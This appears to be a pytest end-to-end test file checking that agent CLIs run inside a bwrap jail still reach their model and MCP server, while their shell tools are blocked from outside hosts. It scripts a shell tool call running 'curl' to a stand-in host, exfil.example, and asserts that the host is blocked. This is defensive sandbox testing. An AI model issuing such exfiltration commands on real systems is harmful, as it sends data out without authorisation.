"""The genuine agent CLIs inside the jail: they work, and their shell cannot reach out.

Each runtime is configured exactly as in the conformance suite (the fake
model on the host's loopback), but the daemon jails it: the model and the
butler's MCP server are reached only through the jail's bridge and the
session's proxy. A model that asks the CLI's own shell tool for
``curl http://exfil.example/`` gets a refusal, and the session row says so.
"""

from __future__ import annotations

import uuid
from collections.abc import Iterator

import pytest

from tests.conformance.conftest import _drop_schema, _env_toml
from tests.conformance.runtimes import BUTLER, CASES
from tests.conformance.test_runtimes import SESSION_TIMEOUT_S, call, model_requests, state_get
from tests.conftest import TEST_DSN
from tests.fakes.model_server import FakeModelServer, Text, ToolCall
from tests.helpers import DaemonProcess, free_port, require_cli, require_jail, write_butler
from tests.sandbox.conftest import CANARY, Jailed

pytestmark = [pytest.mark.e2e]

EXFIL = "curl -s -m 10 http://exfil.example/"
#: Each CLI's own shell tool, as its model would call it (Codex's own sandbox already
#: refuses the network to commands, before any proxy could see them).
SHELL_CALLS = {
    "claude-code": ToolCall("Bash", {"command": EXFIL, "description": "fetch"}),
    "gemini": ToolCall("run_shell_command", {"command": EXFIL, "description": "fetch"}),
    "opencode": ToolCall("bash", {"command": EXFIL, "description": "fetch"}),
    "copilot": ToolCall("bash", {"command": EXFIL, "description": "fetch"}),
}


@pytest.fixture(scope="module", params=sorted(CASES))
def jailed_cli(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    _fake_model_session: FakeModelServer,
) -> Iterator[tuple[str, Jailed]]:
    """A jailed daemon of butler ``conformer`` on one genuine CLI."""
    name: str = request.param
    case = CASES[name]
    require_cli(case.recipe.missing_reason())
    require_jail()
    root = tmp_path_factory.mktemp(f"jailed-{name}")
    url = _fake_model_session.url
    runtime: dict[str, object] = {"type": case.type, "cli_path": str(case.binary)}
    if case.model:
        runtime["model"] = case.model
    if case.args(url):
        runtime["args"] = case.args(url)
    values = case.env(url)
    schema = f"t_{uuid.uuid4().hex[:12]}"
    port = free_port()
    roster = root / "roster"
    (roster / "shared").mkdir(parents=True)
    extra = _env_toml(sorted(values))
    folder = write_butler(roster, BUTLER, port=port, schema=schema, runtime=runtime, extra=extra)
    for relative, text in case.files.items():
        (folder / relative).write_text(text, encoding="utf-8")
    data = root / "data"
    env = {**values, "BUTLER_DATA_DIR": str(data), "BUTLER_CANARY_SECRET": CANARY}
    env["BUTLER_SANDBOX"] = "bwrap"
    daemon = DaemonProcess(folder, port=port, database_url=TEST_DSN, env=env)
    try:
        with daemon:
            yield name, Jailed(daemon, folder, data, schema)
    finally:
        _drop_schema(schema)


async def trigger(jailed: Jailed, prompt: str) -> dict:
    return await call(jailed.daemon.url, "trigger", prompt=prompt, timeout_s=SESSION_TIMEOUT_S)


async def test_a_jailed_cli_reaches_its_model_and_its_butler(
    jailed_cli: tuple[str, Jailed], fake_model: FakeModelServer
) -> None:
    name, jailed = jailed_cli
    fake_model.script = [ToolCall("state_set", {"key": "jailed", "value": name}), Text("Done.")]
    result = await trigger(jailed, "Store it")
    assert result["success"] is True, result["error"]
    assert model_requests(fake_model), "the model was reached through the jail"
    assert await state_get(jailed, "jailed") == name
    row = await jailed.row(result["session_id"])
    assert "sandbox" not in row["metadata"], row["metadata"]  # nothing it needed was refused


async def test_a_model_asking_the_shell_to_exfiltrate_gets_a_refusal_on_the_row(
    jailed_cli: tuple[str, Jailed], fake_model: FakeModelServer
) -> None:
    name, jailed = jailed_cli
    if name not in SHELL_CALLS:
        pytest.skip(f"{name}: its own sandbox refuses a command the network first")
    fake_model.script = [SHELL_CALLS[name], Text("Done.")]
    result = await trigger(jailed, "Fetch that page")
    assert result["session_id"], result
    row = await jailed.row(result["session_id"])
    sandbox = row["metadata"].get("sandbox") or {}
    assert "exfil.example" in sandbox.get("blocked_hosts", []), (row, fake_model.requests[-1:])
